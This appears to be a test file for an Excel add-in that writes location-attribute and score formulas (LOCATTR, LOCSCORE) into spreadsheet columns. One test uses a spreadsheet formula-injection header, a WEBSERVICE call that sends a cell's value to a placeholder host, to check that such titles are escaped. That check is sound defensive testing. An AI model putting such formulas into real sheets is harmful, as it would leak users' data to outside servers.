import {
  enrichmentBlock,
  type Enrichment,
  whyOwnFormulas,
} from '../../../src/addin/enrich/enrich-cells';

import type { PlaceColumns } from '../../../src/engine/places/place-choice';

const turn = (): Promise<void> => Promise.resolve();
const LIST: Enrichment = {
  list: { sheet: 'Stores', row: 0, column: 0, rows: 3, columns: 3 },
  hasHeader: true,
  place: { kind: 'coordinates', latitude: 1, longitude: 2 },
  names: ['w_pop_tt', 'p_retail_gc_np'],
  score: undefined,
  layout: 'cells',
  column: 3,
};

describe('the cells of new columns', () => {
  it('have the names above them, and ask for what stands there', async () => {
    expect(await enrichmentBlock(LIST, turn)).toEqual({
      sheet: 'Stores',
      row: 0,
      column: 3,
      cells: [
        ['w_pop_tt', 'p_retail_gc_np'],
        ['=LOCATTR($B2,$C2,D$1)', '=LOCATTR($B2,$C2,E$1)'],
        ['=LOCATTR($B3,$C3,D$1)', '=LOCATTR($B3,$C3,E$1)'],
      ],
    });
  });

  it('leave out the rows that are no places', async () => {
    const { cells } = await enrichmentBlock({ ...LIST, skipped: new Set([1]) }, turn);
    expect(cells.slice(1)).toEqual([
      [null, null],
      ['=LOCATTR($B3,$C3,D$1)', '=LOCATTR($B3,$C3,E$1)'],
    ]);
  });

  it('name what they ask for where the list has no header', async () => {
    const list = { sheet: 'Stores', row: 4, column: 1, rows: 1, columns: 2 };
    const block = await enrichmentBlock({ ...LIST, list, hasHeader: false, column: 26 }, turn);
    expect(block).toMatchObject({
      row: 4,
      column: 26,
      cells: [['=LOCATTR($B5,$C5,"w_pop_tt")', '=LOCATTR($B5,$C5,"p_retail_gc_np")']],
    });
  });

  it('ask by address and pincode', async () => {
    const place = { kind: 'address', parts: [0], pincode: 2, pincodeGoes: 'apart' } as const;
    const { cells } = await enrichmentBlock({ ...LIST, place, names: ['w_pop_tt'] }, turn);
    expect(cells[2]).toEqual(['=LOCATTR_ADDRESS($A3,$C3,D$1)']);
  });

  it('are headed by no formula, whatever somebody’s list calls them', async () => {
    const titles = ['=WEBSERVICE("https://x.example/?"&B2)', '+cmd', "'quoted"];
    const names = ['w_a', 'w_b', 'w_c'];
    const { cells } = await enrichmentBlock({ ...LIST, names, titles }, turn);
    expect(cells[0]).toEqual([`'${titles[0]}`, 'w_b', "''quoted"]);
  });

  it('have the number formats of what they hold, and a score none', async () => {
    const formats = ['#,##0', undefined];
    expect((await enrichmentBlock({ ...LIST, formats }, turn)).formats).toEqual(formats);
  });

  it('may be one formula that spills over all of them, beside a score for each row', async () => {
    const score = { alias: 'Shops', variables: [] };
    expect(await enrichmentBlock({ ...LIST, layout: 'spill', score }, turn)).toEqual({
      sheet: 'Stores',
      row: 0,
      column: 3,
      spill: { rows: 3, columns: 2 },
      cells: [
        ['w_pop_tt', 'p_retail_gc_np', 'Shops'],
        ['=LOCATTR(B2:B3,C2:C3,D1:E1)', null, '=LOCSCORE_COORDS("Shops",$B2,$C2)'],
        [null, null, '=LOCSCORE_COORDS("Shops",$B3,$C3)'],
      ],
    });
    const headless = { ...LIST, layout: 'spill', hasHeader: false } as const;
    expect((await enrichmentBlock(headless, turn)).cells[0]).toEqual([
      '=LOCATTR(B1:B3,C1:C3,"w_pop_tt,p_retail_gc_np")',
      null,
    ]);
  });

  it('hold no text longer than Excel takes, whole and in order', async () => {
    const names = Array.from({ length: 60 }, (_, index) => `w_name_number_${String(index)}`);
    const wide = { ...LIST, layout: 'spill', hasHeader: false, names } as const;
    const formula = String((await enrichmentBlock(wide, turn)).cells[0]?.[0]);
    const texts = [...formula.matchAll(/"([^"]*)"/g)].map(([, text = '']) => text);
    expect(Math.max(...texts.map((text) => text.length))).toBe(255);
    expect(texts.join('')).toBe(names.join(','));
    expect(formula).toMatch(/^=LOCATTR\(B1:B3,C1:C3,("[^"]*"&)+"[^"]*"\)$/);
  });

  it('are made in pieces', async () => {
    let turns = 0;
    const counting = (): Promise<void> => {
      turns += 1;
      return Promise.resolve();
    };
    const list = { ...LIST.list, rows: 20_001 };
    const { cells } = await enrichmentBlock({ ...LIST, list }, counting);
    expect(cells).toHaveLength(20_001);
    expect(cells[20_000]?.[1]).toBe('=LOCATTR($B20001,$C20001,E$1)');
    expect(turns).toBe(20);
  });
});

describe('each value has a formula of its own', () => {
  const table = { name: 'Shops', isHeaderFirst: true };

  it.each([
    [{ table, rows: 10 }, 1, 0, 'table'],
    [{ table: undefined, rows: 10 }, 1, 2, 'gaps'],
    [{ table: undefined, rows: 150_001 }, 1, 0, 'size'],
    [{ table: undefined, rows: 30_001 }, 5, 0, 'size'],
    [{ table: undefined, rows: 30_000 }, 5, 0, undefined],
    [{ table: undefined, rows: 150_000 }, 1, 0, undefined],
  ])('for %j, %d names and %d rows left out: %s', (block, names, leftOut, why) => {
    expect(whyOwnFormulas(block, names, leftOut)).toBe(why);
  });
});

describe('the place in a formula', () => {
  const ONE: PlaceColumns = { kind: 'address', parts: [1], pincode: 2, pincodeGoes: 'apart' };
  const TWO: PlaceColumns = { kind: 'address', parts: [1, 2], pincode: 3, pincodeGoes: 'apart' };
  const JOINED =
    'MID(IF($B2="","",", "&$B2)&IF(($C2="")+ISNUMBER(FIND(LOWER(" "&$C2&" "),LOWER(" "&SUBSTITUTE($B2,","," ")&" "))),"",", "&$C2),3,1000)';

  it.each<[string, PlaceColumns, string]>([
    ['coordinates', { kind: 'coordinates', latitude: 0, longitude: 1 }, 'LOCATTR($A2,$B2'],
    [
      'coordinates with decimal commas',
      { kind: 'coordinates', latitude: 0, longitude: 1, decimals: 'comma' },
      'LOCATTR(SUBSTITUTE($A2,",","."),SUBSTITUTE($B2,",",".")',
    ],
    ['an address', ONE, 'LOCATTR_ADDRESS($B2,$C2'],
    ['an address of two parts', TWO, `LOCATTR_ADDRESS(${JOINED},$D2`],
    [
      'an address that holds its pincode',
      { kind: 'address', parts: [1], pincode: undefined, pincodeGoes: 'within' },
      'LOCATTR_ADDRESS($B2,$B2',
    ],
    ['a pair in one cell', { kind: 'pair', pair: 1 }, 'LOCATTR($B2,""'],
  ])('%s, for attributes', async (_what, place, expected) => {
    expect(await cellOf(place, false)).toBe(`=${expected},"w_pop_tt")`);
  });

  it.each<[string, PlaceColumns, string]>([
    ['an address', ONE, 'LOCSCORE("m",$B2&IF($B2="","",CHAR(10)&"PIN "&$C2))'],
    ['an address alone', { ...ONE, pincode: undefined }, 'LOCSCORE("m",$B2)'],
    [
      'coordinates',
      { kind: 'coordinates', latitude: 0, longitude: 1 },
      'LOCSCORE_COORDS("m",$A2,$B2)',
    ],
  ])('%s, for a score', async (_what, place, expected) => {
    expect(await cellOf(place, true)).toBe(`=${expected}`);
  });

  it('has each part of an address before the pincode, for a score', async () => {
    expect(await cellOf(TWO, true)).toContain(`LOCSCORE("m",${JOINED}&IF(`);
  });

  /** The cell beside row 2 of a list. */
  async function cellOf(place: PlaceColumns, isScore: boolean): Promise<unknown> {
    const { cells } = await enrichmentBlock(
      {
        ...{ ...LIST, list: { ...LIST.list, row: 1, rows: 1 }, hasHeader: false, place },
        ...(isScore
          ? { names: [], score: { alias: 'm', variables: [] } }
          : { names: ['w_pop_tt'], score: undefined }),
      },
      turn,
    );
    return cells[0]?.[0];
  }
});
